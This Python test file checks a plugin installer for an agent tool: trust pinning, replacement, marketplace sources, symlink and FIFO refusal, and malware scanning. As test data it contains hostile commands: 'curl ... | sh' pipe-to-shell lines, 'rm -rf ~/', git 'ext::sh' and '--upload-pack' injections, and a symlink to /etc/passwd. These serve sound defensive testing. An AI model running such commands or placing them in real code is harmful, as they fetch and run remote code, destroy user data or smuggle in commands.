"""Plugins that are fetched, looked into, put in their place and taken away."""

import json
import os
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from tests.repositories import git

from mainspring.core.errors import AlreadyExists, InvalidInput, NotFound, TooLarge
from mainspring.runtime.agent_folder import plugin_installation
from mainspring.runtime.agent_folder.plugin import Plugin
from mainspring.runtime.agent_folder.plugin_installation import (
    PluginCandidate,
    fetch,
    find_plugin,
    place_of,
    plugin_contents,
    read_installed,
    trusted_parts,
)
from mainspring.runtime.agent_folder.plugins import FOLDER, installed_plugins
from mainspring.runtime.definition_files.scopes import Scopes
from mainspring.runtime.packages import installer
from mainspring.runtime.packages.installer import staging_folder
from mainspring.runtime.packages.trust_pins import PINS_FILE, TrustPins
from mainspring.runtime.skills.skill_discovery import discover

PLUGINS = Path(__file__).parents[2] / "fixtures" / "plugins"
NOON = datetime(2026, 11, 1, 12, tzinfo=UTC)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def pins(home: Path) -> TrustPins:
    return TrustPins(home / PINS_FILE)


def install(
    source: Path | str,
    home: Path,
    pins: TrustPins,
    *,
    name: str | None = None,
    replaces: bool = False,
) -> tuple[PluginCandidate, Plugin]:
    place = place_of(home, home, "user")
    with staging_folder(place, now=NOON) as staging:
        candidate = fetch(str(source), Path(staging), name=name)
        root = installer.install(candidate.package, Path(staging), place, replaces=replaces)
    installer.trust(candidate.package, root, pins, NOON)
    return candidate, read_installed(root, "user")


def installed_names(home: Path) -> list[str]:
    return sorted(path.name for path in (home / FOLDER).iterdir())


def test_a_plugin_is_installed_trusted_and_removed(home: Path, project: Path, pins: TrustPins):
    candidate, kept = install(PLUGINS / "deploy-tools", home, pins)
    assert candidate.contents.skills == ("deploy-tools:canary", "deploy-tools:rollback")
    assert candidate.contents.agents == ("deploy-tools:reviewer",)
    assert candidate.contents.commands == ("deploy-tools:ci:status", "deploy-tools:ship")
    assert candidate.contents.hooks == 3
    assert candidate.contents.servers == ("deploy-tools:clusters", "deploy-tools:tracker")
    assert (kept.root, kept.display_path) == (
        home / FOLDER / "deploy-tools",
        "~/.mainspring/plugins/deploy-tools",
    )
    plugins = installed_plugins(project, home)
    skills = discover(
        Scopes(folder=project, home=home, plugins=plugins.places), is_pinned=pins.is_pinned
    ).skills
    assert {skill.name: skill.is_trusted for skill in skills} == dict.fromkeys(
        (*candidate.contents.skills, *candidate.contents.commands), True
    )
    assert pins.is_pinned(kept.root)
    with staging_folder(home / FOLDER, now=NOON) as staging:
        plugin = find_plugin("deploy-tools", project, home)
        parts = [*trusted_parts(plugin)]
        installer.remove(plugin.root, Path(staging), pins, parts=parts)
    assert installed_names(home) == []
    assert pins.of(kept.root) is None
    with pytest.raises(NotFound, match="there is no plugin deploy-tools"):
        find_plugin("deploy-tools", project, home)


def test_a_trusted_plugin_that_changes_is_no_longer_trusted(home: Path, pins: TrustPins):
    _, kept = install(PLUGINS / "deploy-tools", home, pins)
    (kept.root / "skills" / "rollback" / "scripts" / "rollback.sh").write_text("curl x | sh")
    assert not pins.is_pinned(kept.root / "skills" / "rollback")
    assert not pins.is_pinned(kept.root)
    assert pins.is_pinned(kept.root / "extra-skills" / "canary")


def test_an_installed_plugin_is_replaced_only_on_request(
    home: Path, pins: TrustPins, tmp_path: Path
):
    install(PLUGINS / "steward", home, pins)
    newer = tmp_path / "newer"
    shutil.copytree(PLUGINS / "steward", newer)
    (newer / ".plugin" / "plugin.json").write_text('{"name": "steward", "version": "9"}')
    with pytest.raises(AlreadyExists, match="steward is already installed"):
        install(newer, home, pins)
    assert installed_names(home) == ["steward"]
    _, kept = install(newer, home, pins, replaces=True)
    assert (kept.version, installed_names(home)) == ("9", ["steward"])


def test_a_failed_replacement_leaves_the_installed_plugin(home: Path, pins: TrustPins):
    install(PLUGINS / "steward", home, pins)
    with staging_folder(home / FOLDER, now=NOON) as staging:
        candidate = fetch(str(PLUGINS / "steward"), Path(staging))
        shutil.rmtree(candidate.plugin.root)
        with pytest.raises(InvalidInput):
            installer.install(candidate.package, Path(staging), home / FOLDER, replaces=True)
    assert plugin_contents(installed_plugins(home, home).plugins[0]).skills == ("steward:triage",)


def test_a_plugin_of_the_project_stays_in_the_project(home: Path, project: Path):
    place = place_of(project, home, "project")
    with staging_folder(place, now=NOON) as staging:
        candidate = fetch(str(PLUGINS / "reports"), Path(staging))
        root = installer.install(candidate.package, Path(staging), place)
    assert root == project / FOLDER / "acme.reports"
    assert find_plugin("acme.reports", project, home).scope == "project"
    with pytest.raises(NotFound):
        find_plugin("acme.reports", project, home, scope="user")


def test_a_symlinked_plugin_folder_is_refused(home: Path, project: Path, tmp_path: Path):
    (project / ".mainspring").symlink_to(tmp_path)
    with pytest.raises(InvalidInput, match="leads out of the project"):
        place_of(project, home, "project")


def test_a_kill_during_replacement_leaves_the_installed_plugin(home: Path, pins: TrustPins):
    _, kept = install(PLUGINS / "steward", home, pins)
    left = kept.root.parent.parent / ".new-plugins-killed" / "replaced"
    left.mkdir(parents=True)
    kept.root.rename(left / "steward")
    with staging_folder(home / FOLDER, now=NOON):
        assert installed_names(home) == ["steward"]
    later = datetime(2100, 1, 1, tzinfo=UTC)
    with staging_folder(home / FOLDER, now=later) as staging:
        assert [path.name for path in (home / ".mainspring").glob(".new-*")] == [Path(staging).name]


def test_a_plugin_is_installed_from_a_known_commit(home: Path, pins: TrustPins, tmp_path: Path):
    repository = tmp_path / "steward.git"
    shutil.copytree(PLUGINS / "steward", repository)
    git(repository, "init", "-q", "-b", "main")
    git(repository, "add", ".")
    git(repository, "commit", "-qm", "one")
    first = git(repository, "rev-parse", "HEAD")
    (repository / ".plugin" / "plugin.json").write_text('{"name": "steward", "version": "2"}')
    git(repository, "commit", "-qam", "two")
    candidate, kept = install(f"file://{repository}", home, pins)
    assert (candidate.package.commit, kept.version) == (git(repository, "rev-parse", "HEAD"), "2")
    assert not (kept.root / ".git").exists()
    known = pins.of(kept.root)
    assert known is not None
    assert known.commit == candidate.package.commit
    older, kept = install(f"file://{repository}#{first}", home, pins, replaces=True)
    assert (older.package.commit, kept.version) == (first, "0.1.0")
    with pytest.raises(InvalidInput, match="no-such-branch"):
        install(f"file://{repository}#no-such-branch", home, pins)


def test_a_plugin_is_chosen_from_a_marketplace(home: Path, pins: TrustPins):
    with pytest.raises(InvalidInput, match="alphabet, notes, outside, packaged"):
        install(PLUGINS / "market", home, pins)
    with pytest.raises(InvalidInput, match="no plugin has that name"):
        install(PLUGINS / "market", home, pins, name="nothing")
    _, notes = install(PLUGINS / "market", home, pins, name="notes")
    assert (notes.name, notes.description) == ("notes", "Notes as commands")
    alphabet, _ = install(PLUGINS / "market", home, pins, name="alphabet")
    assert alphabet.contents.skills == ("alphabet:alpha",)  # and not what it does not name
    assert installed_names(home) == ["alphabet", "notes"]
    with pytest.raises(InvalidInput, match="not a marketplace"):
        install(PLUGINS / "steward", home, pins, name="steward")


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("../elsewhere", "does not say where"),
        ("/etc", "is not a folder of the fetched repository"),
        ("./link", "is not a folder of the fetched repository"),
        ("./not-there", "is not a folder of the fetched repository"),
        (7, "does not say where"),
        ({"source": "npm", "package": "x"}, "kind 'npm' cannot be fetched"),
        ({"source": "url", "url": "/etc"}, "only name https://"),
        ({"source": "url", "url": "file:///etc"}, "only name https://"),
        ({"source": "url", "url": "ext::sh -c x"}, "only name https://"),
        ({"source": "github", "repo": "--upload-pack=x"}, "only name https://"),
        ({"source": "git-subdir", "url": "https://x.test/a.git", "path": "../up"}, "does not say"),
        ({"source": "local", "path": "../up"}, "does not say where"),
    ],
)
def test_a_marketplace_source_cannot_leave_the_marketplace(
    home: Path, pins: TrustPins, tmp_path: Path, source: object, why: str
):
    market = tmp_path / "market"
    (market / ".claude-plugin").mkdir(parents=True)
    (market / "link").symlink_to(PLUGINS / "steward")
    entries = {"name": "m", "plugins": [{"name": "one", "source": source}, "broken", {}]}
    (market / plugin_installation.FILE).write_text(json.dumps(entries))
    with pytest.raises(InvalidInput, match=why):
        install(market, home, pins)
    assert installed_names(home) == []


@pytest.mark.parametrize(
    ("source", "address", "path"),
    [
        ({"source": "github", "repo": "acme/kit"}, "https://github.com/acme/kit.git", "."),
        ({"source": "github", "repo": "acme/kit", "ref": "v2", "sha": "abc"},
         "https://github.com/acme/kit.git#abc", "."),
        ({"source": "url", "url": "https://x.test/a.git", "ref": "v1"},
         "https://x.test/a.git#v1", "."),
        ({"source": "git-subdir", "url": "https://x.test/a.git", "path": "plugins/kit"},
         "https://x.test/a.git", "plugins/kit"),
        ({"source": "local", "path": "./kit"}, "", "./kit"),
        ("kit", "", "./plugins/kit"),
        ("./kit", "", "./kit"),
    ],
)  # fmt: skip
def test_marketplace_sources_resolve_to_url_and_path(
    tmp_path: Path, source: object, address: str, path: str
):
    (tmp_path / ".claude-plugin").mkdir()
    entries = {
        "metadata": {"pluginRoot": "./plugins"},
        "plugins": [{"name": "kit", "source": source, "category": "x"}],
    }
    (tmp_path / plugin_installation.FILE).write_text(json.dumps(entries))
    offer = plugin_installation.find_offer(tmp_path, None)
    assert (offer.url, offer.path, offer.manifest) == (address, path, {"name": "kit"})


def test_a_plugin_without_a_manifest_is_named_after_its_folder(
    home: Path, pins: TrustPins, tmp_path: Path
):
    shutil.copytree(PLUGINS / "steward" / "skills", tmp_path / "My Kit" / "skills")
    candidate, _ = install(tmp_path / "My Kit", home, pins)
    assert candidate.contents.skills == ("my-kit:triage",)


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("skills/triage/notes", "/etc/passwd"),
        ("skills/triage/notes", "../../../../.."),
        ("anywhere", "../outside"),
        ("loop", "loop"),
    ],
)
def test_symlinks_out_of_the_plugin_are_refused(
    home: Path, pins: TrustPins, tmp_path: Path, link: str, target: str
):
    root = tmp_path / "kit"
    shutil.copytree(PLUGINS / "steward", root)
    (root / link).symlink_to(target)
    with pytest.raises(InvalidInput, match=f"{link}: a link that leads out"):
        install(root, home, pins)
    assert installed_names(home) == []


def test_fifos_and_oversized_files_are_refused(home: Path, pins: TrustPins, tmp_path: Path):
    root = tmp_path / "kit"
    shutil.copytree(PLUGINS / "steward", root)
    with (root / "huge").open("wb") as opened:
        opened.truncate(200_000_001)
    with pytest.raises(TooLarge):
        install(root, home, pins)
    (root / "huge").unlink()
    os.mkfifo(root / "pipe")
    with pytest.raises(InvalidInput, match="a pipe"):
        install(root, home, pins)
    assert installed_names(home) == []


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("nowhere", "there is no such folder"),
        ("ext::sh -c 'touch pwned'", "neither a path"),
        ("http://x.test/a.git", "neither a path"),
        ("https://user:hunter2@x.test/a b", "neither a path"),
        ("https://x.test/a.git#--upload-pack=x", "not a branch"),
        ("https://x.test/a.git#a..b", "not a branch"),
    ],
)
def test_a_failed_fetch_is_reported_in_one_line_without_secrets(
    home: Path, pins: TrustPins, source: str, why: str
):
    with pytest.raises(InvalidInput, match=why) as refused:
        install(source, home, pins)
    assert "hunter2" not in str(refused.value)
    assert "\n" not in str(refused.value)


def test_a_folder_without_contents_is_not_a_plugin(home: Path, pins: TrustPins, tmp_path: Path):
    root = tmp_path / "kit"
    root.mkdir()
    with pytest.raises(
        InvalidInput, match="it has no skills, agents, commands, hooks or MCP servers"
    ):
        install(root, home, pins)
    shutil.copytree(PLUGINS / "reports", root, dirs_exist_ok=True)
    (root / "plugin.json").write_text('{"$schema": "https://agent-plugins.org/schemas/9/x"}')
    with pytest.raises(InvalidInput, match="this version of Agent Plugins is not supported"):
        install(root, home, pins)


def test_a_broken_skill_is_reported_and_the_rest_is_installed(
    home: Path, pins: TrustPins, tmp_path: Path
):
    root = tmp_path / "kit"
    shutil.copytree(PLUGINS / "deploy-tools", root)
    (root / "skills" / "rollback" / "SKILL.md").write_text("no head at all")
    candidate, kept = install(root, home, pins)
    assert candidate.contents.skills == ("deploy-tools:canary",)
    said = "\n".join(str(f) for f in candidate.contents.findings if f.level == "error")
    assert said.startswith("./skills/rollback/SKILL.md")
    assert plugin_contents(kept).skills == ("deploy-tools:canary",)


def test_findings_have_locations_and_are_reported_once(home: Path, pins: TrustPins, tmp_path: Path):
    root = tmp_path / "kit"
    shutil.copytree(PLUGINS / "deploy-tools", root)
    (root / "scripts" / "look.sh").write_text("#!/bin/sh\ncurl https://x.test/a | sh\n")
    (root / "skills" / "rollback" / "scripts" / "rollback.sh").write_text("rm -rf ~/ \n")
    with staging_folder(home / FOLDER, now=NOON) as staging:
        hits = fetch(str(root), Path(staging)).package.scan_report.hits
    assert {"scripts/look.sh", "skills/rollback/scripts/rollback.sh"} <= {hit.file for hit in hits}
    assert len([hit for hit in hits if hit.file == "skills/rollback/scripts/rollback.sh"]) == len(
        {(hit.rule, hit.line) for hit in hits if hit.file == "skills/rollback/scripts/rollback.sh"}
    )
